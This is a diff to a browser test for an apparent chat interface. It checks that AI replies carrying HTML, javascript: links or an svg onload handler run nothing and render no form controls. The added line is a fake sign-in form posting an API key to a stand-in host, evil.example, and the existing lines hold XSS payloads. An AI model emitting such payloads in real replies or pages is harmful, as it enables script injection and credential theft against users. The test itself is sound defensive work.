@@ -137,6 +137,7 @@ test('a reply holding HTML and a javascript: link runs nothing', { skip }, async
     '[click me](javascript:window.__xss=3)',
     '<a href="javascript:window.__xss=4">raw link</a>',
     '<svg onload="window.__xss=5"></svg>',
+    '<form action="https://evil.example/steal"><input name="key" placeholder="Your API key"><textarea></textarea><select><option>x</option></select><button>Sign in again</button></form>',
   ]
   const fake = await startedFake(t, { tokens: hostile.map((line) => `${line}\n\n`) })
   const { page } = await openPage(t, fake)
@@ -149,6 +150,8 @@ test('a reply holding HTML and a javascript: link runs nothing', { skip }, async
   await page.waitForTimeout(200)
   assert.equal(await page.evaluate(() => (globalThis as { __xss?: number }).__xss), undefined)
   assert.equal(await lastReply(page).locator('script, [onerror], [onload]').count(), 0)
+  // A reply cannot dress up as the page: no form or control a user could type a key into.
+  assert.equal(await lastReply(page).locator('form, input, textarea, select, button:not(.copy)').count(), 0)
   assert.match(await page.locator('.message.user').last().innerText(), /<img src=y/)
 })
 
